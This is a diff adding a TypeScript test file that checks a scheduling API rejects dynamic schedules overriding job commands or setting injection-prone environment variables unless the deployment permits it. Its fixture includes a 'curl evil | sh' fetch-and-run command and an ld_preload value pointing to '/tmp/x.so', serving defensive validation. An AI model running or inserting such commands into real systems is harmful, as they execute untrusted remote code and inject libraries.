@@ -1,0 +1,69 @@
+/**
+ * The rules only the API applies to dynamic schedules (shared/api/schedules.ts): no command
+ * override unless the deployment allows it, and the switch read from the environment.
+ */
+import { describe, expect, it } from 'vitest';
+import { commandOverrideIssues, taskPaths } from '#shared/api/schedules';
+import { readApiEnv } from '#shared/api/deps';
+import { ScheduleSchema } from '#shared/config/schema';
+import { EnvironmentError } from '#shared/errors';
+
+const spec = (raw: unknown) => ScheduleSchema.parse(raw);
+
+describe('commandOverrideIssues', () => {
+  const overriding = spec({
+    expression: 'rate(1 hour)',
+    tasks: {
+      extract: { definition: 'd', command: ['sh', '-c', 'curl evil | sh'] },
+      load: { definition: 'd', environment: { DAY: 'x', ld_preload: '/tmp/x.so' } },
+    },
+    onFailure: { cleanup: { definition: 'd', command: ['true'] } },
+  });
+
+  it('names every command and command-like environment variable a dynamic schedule sets', () => {
+    expect(commandOverrideIssues(overriding, false)).toEqual([
+      { path: 'body.tasks.extract.command', message: expect.stringContaining("a dynamic schedule cannot override the job definition's command") },
+      { path: 'body.tasks.load.environment.ld_preload', message: expect.stringContaining('a dynamic schedule cannot set ld_preload') },
+      { path: 'body.onFailure.cleanup.command', message: expect.stringContaining('custom.batchron.api.allowCommandOverride: true') },
+    ]);
+  });
+
+  it('allows them when the deployment allows command overrides', () => {
+    expect(commandOverrideIssues(overriding, true)).toEqual([]);
+  });
+
+  it('allows choosing a definition and passing parameters and ordinary environment', () => {
+    const plain = spec({ expression: 'rate(1 hour)', job: { definition: 'd', environment: { DAY: '${param.day}' }, parameters: { k: 'v' } }, parameters: { day: {} } });
+    expect(commandOverrideIssues(plain, false)).toEqual([]);
+  });
+
+  it('knows where each task was written', () => {
+    expect(taskPaths(overriding)).toEqual({ extract: 'tasks.extract', load: 'tasks.load', cleanup: 'onFailure.cleanup' });
+    expect(taskPaths(spec({ expression: 'rate(1 hour)', job: { definition: 'd' } }))).toEqual({ main: 'job' });
+  });
+});
+
+describe('BATCHRON_ALLOW_COMMAND_OVERRIDE', () => {
+  const base = {
+    BATCHRON_TABLE: 't',
+    BATCHRON_DEPLOYMENT: 'd',
+    BATCHRON_SCHEDULE_GROUP: 'g',
+    BATCHRON_FIRE_TARGET_ARN: 'arn:aws:lambda:us-east-1:123456789012:function:d-fire',
+    BATCHRON_SCHEDULER_ROLE_ARN: 'arn:aws:iam::123456789012:role/r',
+  };
+
+  it.each([
+    [undefined, false],
+    ['', false],
+    ['false', false],
+    ['true', true],
+    ['TRUE', true],
+  ])('%j means %s', (value, expected) => {
+    expect(readApiEnv({ ...base, BATCHRON_ALLOW_COMMAND_OVERRIDE: value }).allowCommandOverride).toBe(expected);
+  });
+
+  it('refuses anything else, naming the variable', () => {
+    expect(() => readApiEnv({ ...base, BATCHRON_ALLOW_COMMAND_OVERRIDE: 'yes' })).toThrow(EnvironmentError);
+    expect(() => readApiEnv({ ...base, BATCHRON_ALLOW_COMMAND_OVERRIDE: 'yes' })).toThrow(/BATCHRON_ALLOW_COMMAND_OVERRIDE/);
+  });
+});
